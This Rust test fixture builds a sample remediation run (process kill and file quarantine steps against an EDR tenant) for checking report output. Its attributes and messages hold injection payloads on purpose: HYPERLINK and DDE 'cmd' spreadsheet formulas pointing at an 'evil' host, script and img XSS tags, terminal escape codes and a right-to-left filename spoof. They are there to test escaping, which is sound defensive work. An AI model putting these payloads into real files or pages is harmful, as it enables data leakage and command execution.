//! The run by hand in which everything happens.

use crate::engine::Outcome;
use crate::engine::fact::{BatchId, Fact, ItemId, Moment, PairedBy, RemediationRef, Settled, StopReason, What};
use crate::events::{Event, RowPlace};
use crate::plan::{ItemRow, OnUnknown, PlanHeader, PlannedReport, PlannedStep, PlannedTenant, RowWithoutItem};
use crate::playbook::ReportFormat;
use crate::report::{Folded, Outcomes, ReportError, Source, Visitor, fold, write};
use crate::run::RunMeta;
use crate::tenant::{Action, ApiVersion, Auth, EventType, Limits, Polling, Statuses};
use std::time::Duration;

/// 2024-06-12, three in the morning.
const START: u64 = 1_718_161_200_000;

/// Two steps, `kill` and `quarantine`, over twelve rows of two files.
pub(in crate::report) fn header() -> PlanHeader {
    PlanHeader {
        playbook: "contain".to_owned(),
        description: "stop it | <b>now</b>".to_owned(),
        comment: "INC-7 @everyone".to_owned(),
        tenant: PlannedTenant {
            name: "prod-eu".to_owned(),
            base_url: "https://gateway.qg2.apps.qualys.eu".to_owned(),
            api_version: ApiVersion::V1,
            user: "svc-edr".to_owned(),
            user_id: "42".to_owned(),
            auth: Auth::TokenEnv("QUELL_TOKEN".to_owned()),
            simulated: false,
        },
        steps: vec![step("kill", "kill-process", 2), step("quarantine", "quarantine-file", 3)],
        limits: Limits { requests: None, ..Limits::default() },
        polling: Polling { deadline: Duration::from_secs(3_600), ..Polling::default() },
        statuses: Statuses { succeeded: vec![], failed: vec![], pending: vec![] },
        dedupe_window: crate::playbook::DEDUPE_WINDOW,
        overlap: crate::plan::Overlap::Forbid,
        release: crate::plan::PlannedRelease::default(),
        guards: crate::plan::PlannedGuards::default(),
        blocked: Vec::new(),
        sources: vec!["hits.csv".to_owned(), "more.json".to_owned()],
        rows: 12,
        reports: vec![PlannedReport { format: "csv".to_owned(), path: "out/{{ run.id }}.csv".to_owned() }],
        tool_version: "0.1.0".to_owned(),
        files: Vec::new(),
        origin: None,
        approval: None,
        digest: "d1d1d1".to_owned(),
    }
}

fn step(name: &str, action: &str, id: i64) -> PlannedStep {
    let action = Action::plain(action, id, EventType::File);
    PlannedStep {
        name: name.to_owned(),
        action,
        filter: None,
        on_unknown: OnUnknown::Stop,
        inverse_id: None,
        inverse: None,
        flow: crate::plan::PlannedFlow::default(),
    }
}

pub(in crate::report) fn run_meta() -> RunMeta {
    RunMeta {
        id: "contain-0612-7f3".to_owned(),
        playbook: "contain".to_owned(),
        tenant: "prod-eu".to_owned(),
        created: Moment(START),
        tool_version: "0.1.0".to_owned(),
        simulated: false,
        state_warning: None,
        operator: None,
        retry_of: None,
        undo_of: None,
        approvals: Vec::new(),
    }
}

/// What the attributes of each item hold; the strings want to be formulas, markup, escape codes and templates.
pub(super) const ATTRIBUTES: [&str; 12] = [
    r#"{"host":"ws-01","score":9}"#,
    r#"{"host":"ws-01","score":9}"#,
    r#"{"host":"=HYPERLINK(\"http://evil/\"&A1,\"x\")","score":-7}"#,
    r#"{"host":"=HYPERLINK(\"http://evil/\"&A1,\"x\")","score":-7}"#,
    r#"{"host":"<script>alert(1)</script>","outcome":"@SUM(A1)"}"#,
    r#"{"host":"{{ run.id }}{% raw %}","input.outcome":"+1+1"}"#,
    r#"{"host":"a|b`c`` @team https://evil [x](y)\\|","score":12345678901234567890123}"#,
    r#"{"host":"\u001b[2J\u202egpj.exe","score":null}"#,
    r#"{"host":"two\r\nlines, \"quoted\"","tags":["a",{"b":1}]}"#,
    "{\n  \"host\": \"pretty\"\n}",
    r#"{}"#,
    r#"{"host":"ünïcödé 漢字"}"#,
];

fn item_row(item: u32) -> ItemRow {
    let rows = [1, 1, 2, 2, 3, 4, 6, 7, 8, 9, 10, 11];
    let row = rows[item as usize];
    ItemRow {
        item,
        step: u16::from(item == 1 || item == 3),
        target: row - 1,
        event: Event {
            place: RowPlace { row, source: u16::from(row > 8), line: row + 1 },
            agent_id: format!("agent-{row}").into(),
            event_id: format!("event-{row}").into(),
            event_type: if row == 2 { EventType::Process } else { EventType::File },
            pid: if row == 2 { 4_711 } else { 0 },
            unique_id: "-1234567890123456789".into(),
            action: None,
            attributes: ATTRIBUTES[item as usize].into(),
        },
    }
}

pub(super) fn rows_without_item() -> Vec<RowWithoutItem> {
    let row =
        |row, source, byte, reason: &str| RowWithoutItem { row, source, line: row + 1, byte, reason: reason.into() };
    vec![
        row(5, 0, None, "duplicate of row 3"),
        row(12, 1, Some(4_096), "refused: pid is `=cmd|' /C calc'!A0`\u{1b}[0m\n<img src=x>"),
    ]
}

fn of(batch: u32, index: u16) -> RemediationRef {
    RemediationRef { batch: BatchId(batch), index }
}

fn settled(item: u32, outcome: Settled, of: Option<RemediationRef>, status: &str, message: &str) -> What {
    let some = |text: &str| (!text.is_empty()).then(|| text.to_owned());
    let by = of.map(|_| PairedBy::AgentAndUniqueId);
    What::Settled { item: ItemId(item), outcome, of, by, status: some(status), message: some(message) }
}

fn submitting(batch: u32, step: u16, items: &[u32]) -> What {
    let items = items.iter().copied().map(ItemId).collect();
    What::Submitting { batch: BatchId(batch), step, event_type: EventType::File, items }
}

fn facts() -> Vec<What> {
    let id = |text: &str| text.to_owned();
    vec![
        What::Started,
        submitting(1, 0, &[0, 2, 5, 6]),
        What::Accepted { batch: BatchId(1), ids: vec![id("RTF_a_0"), id("RTF_a_2"), id("RTF_a_5"), id("RTF_a_6")] },
        settled(0, Settled::Succeeded, Some(of(1, 0)), "Success", "done"),
        settled(
            2,
            Settled::Failed,
            Some(of(1, 1)),
            "FAILED",
            "<img src=x onerror=alert(1)> | @team `x` \u{1b}[31m\r\n=1+1",
        ),
        What::Barred { target: 1, step: 0 },
        submitting(2, 1, &[1]),
        What::Accepted { batch: BatchId(2), ids: vec![id("RTF_a_1")] },
        settled(1, Settled::Succeeded, Some(of(2, 0)), "success", ""),
        submitting(3, 0, &[4]),
        What::Rejected { batch: BatchId(3), status: 400, message: "</td><td>no such event\u{202e}".to_owned() },
        submitting(4, 0, &[7, 9]),
        What::Accepted { batch: BatchId(4), ids: vec![id("RTF_a_7"), id("RTF_a_7"), id("")] },
        What::Seen { of: of(4, 0), status: "queued".to_owned() },
        What::Paired { of: of(4, 0), item: ItemId(7), by: PairedBy::Agent },
        settled(9, Settled::Unmatched, None, "", ""),
        submitting(5, 0, &[8]),
        What::Unanswered { batch: BatchId(5), message: "connection reset".to_owned(), lost: false },
        settled(5, Settled::StillQueued, Some(of(1, 2)), "queued", ""),
        settled(6, Settled::TimedOut, Some(of(1, 3)), "=odd", "-"),
        What::Tallied { gets: 40, throttled: 3 },
        What::Stopping { why: StopReason::Signal },
        What::Ended { complete: false },
    ]
}

/// Everything that a source borrows.
pub(in crate::report) struct Fixture {
    pub(in crate::report) run: RunMeta,
    pub(in crate::report) header: PlanHeader,
    pub(in crate::report) folded: Folded,
    pub(in crate::report) rows: Vec<ItemRow>,
    pub(in crate::report) without: Vec<RowWithoutItem>,
    pub(in crate::report) exit_code: u8,
}

impl Fixture {
    /// The run in which everything happens; no fact brings `skipped` or `blocked` yet, so these two are set by hand.
    pub(in crate::report) fn everything() -> Self {
        let rows: Vec<ItemRow> = (0..12).map(item_row).collect();
        let steps_and_targets = rows.iter().map(|row| (row.step, row.target));
        let facts = (0..).zip(facts()).map(|(n, what)| Fact { at: Moment(START + n * 185_250), what });
        let mut folded = fold(&header(), steps_and_targets, facts).expect("the facts fit the plan");
        for (item, outcome, reason) in
            [(10, Outcome::Skipped, "it succeeded in run contain-0611-001"), (11, Outcome::Blocked, "protected")]
        {
            folded.endings[item].outcome = outcome;
            folded.endings[item].reason = Some(reason.into());
        }
        let mut fixture =
            Self { run: run_meta(), header: header(), folded, rows, without: rows_without_item(), exit_code: 5 };
        fixture.recount();
        fixture
    }

    /// As many items as asked for, each with its own row, all of one outcome, with long texts.
    pub(in crate::report) fn many(items: u32, outcome: Outcome, text: &str) -> Self {
        let mut fixture = Self::everything();
        fixture.rows = (0..items)
            .map(|item| {
                let mut row = item_row(0);
                (row.item, row.event.place.row) = (item, item + 1);
                row.event.agent_id = text.into();
                row.event.event_id = text.into();
                row
            })
            .collect();
        let mut ending = fixture.folded.endings[2].clone();
        (ending.outcome, ending.reason, ending.status_message) = (outcome, Some(text.into()), Some(text.into()));
        fixture.folded.endings = vec![ending; items as usize];
        fixture.without.clear();
        fixture.header.rows = items;
        fixture.recount();
        fixture
    }

    pub(in crate::report) fn recount(&mut self) {
        let mut outcomes = Outcomes::default();
        self.folded.endings.iter().for_each(|ending| outcomes.add(ending.outcome));
        (self.folded.totals.outcomes, self.folded.totals.judged) = (outcomes, outcomes);
    }

    pub(in crate::report) fn with<T>(&self, work: impl FnOnce(&Source<'_>) -> T) -> T {
        let items = |visit: &mut Visitor<'_>| {
            for row in &self.rows {
                visit(row.clone()).map_err(|error| ReportError::Items(error.to_string()))?;
            }
            Ok(())
        };
        work(&Source {
            run: &self.run,
            header: &self.header,
            folded: &self.folded,
            items: &items,
            rows_without_item: &self.without,
            exit_code: self.exit_code,
        })
    }

    pub(in crate::report) fn render(&self, format: &ReportFormat) -> Result<String, ReportError> {
        let mut out = Vec::new();
        self.with(|source| write(format, source, &mut out))?;
        Ok(String::from_utf8(out).expect("reports are UTF-8"))
    }
}
